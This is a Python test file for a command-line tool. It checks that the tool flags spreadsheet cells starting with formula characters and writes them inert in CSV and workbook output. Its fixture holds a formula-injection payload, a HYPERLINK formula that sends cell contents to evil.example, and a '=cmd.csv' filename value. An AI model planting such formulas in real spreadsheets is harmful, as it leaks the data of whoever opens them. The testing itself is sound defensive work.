"""Text a spreadsheet would run as a formula (issue 10, failure 3): ``orgraph check`` warns of
each such cell, naming file, row and column (a workbook's cell), and ``orgraph audit --format
csv`` and the errors workbook write it inert."""

from __future__ import annotations

import csv
import io
from dataclasses import replace
from pathlib import Path

from openpyxl import load_workbook
from typer.testing import CliRunner

from api.cli.main import app
from api.cli.workbook_writer import write_workbook
from graph_model.errors import Problem, Severity
from graph_model.records import Bundle
from loaders import SAMPLE_BUNDLE, read_bundle
from loaders.csv_writer import write_csv
from loaders.neutralise import FORMULA_STARTS
from loaders.workbook.report import write_errors_workbook

runner = CliRunner()
EVIL = '=HYPERLINK("http://evil.example/?d="&A1,"open")'
#: A branch of the sample that the audit's rule R03 finds (no secretary).
BRANCH = "br-b09-s1"


def evil_sample() -> tuple[Bundle, int]:
    """The sample with ``BRANCH`` named ``EVIL``, and the row ``BRANCH`` is written on."""
    sample = read_bundle(SAMPLE_BUNDLE).bundle
    orgs = tuple(replace(o, name=EVIL) if o.id == BRANCH else o for o in sample.party_orgs)
    row = 2 + [o.id for o in orgs].index(BRANCH)  # the header is row 1
    return replace(sample, party_orgs=orgs), row


def test_check_warns_of_a_formula_like_cell_naming_file_row_and_column(tmp_path: Path) -> None:
    bundle, row = evil_sample()
    write_csv(bundle, tmp_path)
    result = runner.invoke(app, ["check", str(tmp_path), "--lang", "en"])
    assert result.exit_code == 0, result.output
    [warning] = [line for line in result.output.splitlines() if line.startswith("warning:")]
    assert f"party_orgs.csv:{row}: name: {EVIL!r} starts with '='" in warning


def test_in_a_workbook_the_warning_names_the_cell(tmp_path: Path) -> None:
    bundle, row = evil_sample()
    book = write_workbook(bundle, tmp_path / "evil.xlsx")
    result = runner.invoke(app, ["check", str(book), "--lang", "en"])
    assert result.exit_code == 0, result.output
    assert f"party_orgs!B{row}: name: {EVIL!r}" in result.output


def test_the_audit_csv_writes_formula_like_text_inert(tmp_path: Path) -> None:
    bundle, _ = evil_sample()
    write_csv(bundle, tmp_path)
    args = ["--as-of", "2026-11-23", "--only", "R03", "--format", "csv", "--quiet"]
    result = runner.invoke(app, ["audit", *args, "--bundle", str(tmp_path)])
    assert result.exit_code == 0, result.output
    rows = list(csv.reader(io.StringIO(result.stdout)))
    [evil] = [r for r in rows if r[3] == BRANCH]
    assert evil[5] == "'" + EVIL
    assert not [cell for r in rows for cell in r if cell.startswith(FORMULA_STARTS)]


def test_the_errors_workbook_lists_a_formula_like_name_inert(tmp_path: Path) -> None:
    found = Problem("=cmd.csv", 0, "-", "not a table of the bundle", Severity.WARNING)
    out = tmp_path / "errors.xlsx"
    write_errors_workbook(tmp_path, [found], out, "en")
    listed = load_workbook(out).worksheets[0]["C3"]
    assert (listed.value, listed.data_type) == ("'=cmd.csv", "s")
